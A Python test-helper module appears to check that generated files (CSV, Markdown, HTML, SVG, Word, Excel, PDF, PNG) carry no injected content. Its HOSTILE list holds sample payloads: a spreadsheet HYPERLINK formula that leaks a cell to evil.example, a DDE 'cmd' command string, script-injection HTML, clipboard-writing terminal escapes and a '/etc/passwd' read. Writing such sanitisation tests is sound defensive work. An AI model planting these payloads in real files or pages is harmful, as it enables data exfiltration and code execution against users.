"""What outside text may not do in any form, one check a form, and the text that tries."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import openpyxl
import pypdf

import made

#: What somebody may write into any field: formulas, markup, links, pictures, what acts on a terminal or hides what is read.
HOSTILE = (
    *made.HOSTILE,
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "&lt;b&gt; &amp; <b>bold</b>",
    "[a link](http://evil.example/)",
    "![a picture](http://evil.example/p.png)",
    "<http://evil.example/>",
    "`code` | a cell | ~~gone~~ # head",
    "\x1b]52;c;aGVsbG8=\x07",
    "\x1b[2J\x9b31m",
    "a\u202eb\u200bc\ufeff",
    "]]>--></w:t></svg>",
    "_x0041_ {{ 7*7 }} ${x} #{y}",
    '#link("http://evil.example/")[x] #read("/etc/passwd") $x$ @ref',
    '"); #panic("x"); ("',
)

CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff]")
_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

#: The tags of our pages, each with the attributes it may have.
_TAGS = {
    **dict.fromkeys(
        [
            "html",
            "meta",
            "title",
            "style",
            "head",
            "body",
            "main",
            "div",
            "section",
            "header",
            "footer",
            "span",
            "br",
            "caption",
            "thead",
            "tbody",
            "tr",
            "dt",
            "dd",
        ],
        "",
    ),
    **dict.fromkeys(
        ["h1", "h2", "h3", "h4", "h5", "h6", "p", "dl", "ul", "li", "table", "b", "strong", "small"], ""
    ),
    "th": "scope colspan rowspan",
    "td": "colspan rowspan",
    "figure": "role aria-label",
    "a": "href",
    "nav": "",
    "ol": "",
    "figcaption": "",
    "html": "lang",
    "meta": "charset name content",
    **dict.fromkeys(
        [
            "svg",
            "g",
            "text",
            "tspan",
            "path",
            "line",
            "rect",
            "circle",
            "polyline",
            "polygon",
            "desc",
            "defs",
            "marker",
            "clippath",
        ],
        None,
    ),
}


#: The elements of our pictures.
_DRAWN = ["svg", "title", "desc", "rect", "text", "line", "polyline", "polygon", "circle", "g"]


class _Tags(HTMLParser):
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in _TAGS, tag
        allowed = _TAGS[tag]
        if tag == "a":  # a place of this page
            assert (dict(attrs).get("href") or "").startswith("#")
            return
        names = {name for name, _ in attrs} - {
            "class",
            "style",
            "id",
            "tabindex",
            "role",
            "aria-label",
            "aria-labelledby",
        }
        assert not [name for name in names if name.startswith("on") or name.endswith(("href", "src"))], attrs
        assert allowed is None or names <= set(allowed.split()), attrs
        assert "url(" not in dict(attrs).get("style", "")  # type: ignore[operator] # a style has a value


def text(content: bytes) -> None:
    assert not CONTROLS.search(content.decode())


def data(content: bytes) -> None:
    assert content.isascii()
    json.loads(content)


def sheet_of_text(content: bytes) -> None:
    text(content)
    for row in csv.reader(io.StringIO(content.decode(), newline=""), quoting=csv.QUOTE_NONNUMERIC):
        assert not [cell for cell in row if str(cell)[:1] in _FORMULA and not isinstance(cell, float)]


def unescaped(markdown: str) -> str:
    """Markdown without what is escaped in it, and without its blocks of plain text."""
    return re.sub(r"\\.", "", re.sub(r"```text\n.*?```", "", markdown, flags=re.DOTALL))


def markdown(content: bytes) -> None:
    text(content)
    assert not re.search(r"!?\[[^\]]*\]\(|<[a-z/!]|`(?!``)", unescaped(content.decode()))


def web_page(content: bytes) -> None:
    text(content)
    _Tags().feed(content.decode())


def picture(content: bytes) -> None:
    text(content)
    for element in ET.fromstring(content).iter():  # noqa: S314 - our own
        assert element.tag.partition("}")[2] in _DRAWN
        assert not [
            name for name in element.attrib if name.startswith("on") or name.endswith(("href", "style"))
        ]


def _office(content: bytes) -> dict[str, str]:
    """The parts of an Office file, each of which can be read; nothing in it leads outside."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        found = {name: parts.read(name).decode("utf-8", "replace") for name in parts.namelist()}
    for name, part in found.items():
        if name.endswith((".xml", ".rels")):
            ET.fromstring(part.encode())  # noqa: S314 - our own
        if name.endswith(".rels"):
            assert 'TargetMode="External"' not in part
            assert "evil.example" not in part
    return found


def word_file(content: bytes) -> None:
    page = _office(content)["word/document.xml"]
    assert not CONTROLS.search(page)
    assert not [
        link for link in re.findall("<w:hyperlink[^>]*>", page) if "r:id" in link or "w:anchor" not in link
    ]
    codes = {code.split()[0] for code in re.findall("<w:instrText[^>]*>([^<]*)<", page)}
    assert codes <= {"PAGE", "NUMPAGES", "PAGEREF"}


def workbook(content: bytes) -> None:
    _office(content)
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n", "d"), cell.value
                assert cell.hyperlink is None
                assert not CONTROLS.search(str(cell.value))


def set_page(content: bytes) -> None:
    read = pypdf.PdfReader(io.BytesIO(content))
    assert not {"/OpenAction", "/AA", "/AcroForm"} & set(read.root_object)
    assert "/JavaScript" not in str(read.root_object.get("/Names", ""))
    for page in read.pages:
        for mark in page.get("/Annots") or ():
            action = mark.get_object().get("/A", {})
            assert action.get("/S", "/GoTo") == "/GoTo", "a link leads to a place of this page"


def pixels(content: bytes) -> None:
    assert content.startswith(b"\x89PNG\r\n\x1a\n")


#: The check of each form. A form that is not in here is in no command, which a test holds.
CHECKS: dict[str, Callable[[bytes], None]] = {
    "table": text,
    "json": data,
    "csv": sheet_of_text,
    "md": markdown,
    "html": web_page,
    "docx": word_file,
    "pdf": set_page,
    "svg": picture,
    "png": pixels,
    "xlsx": workbook,
}
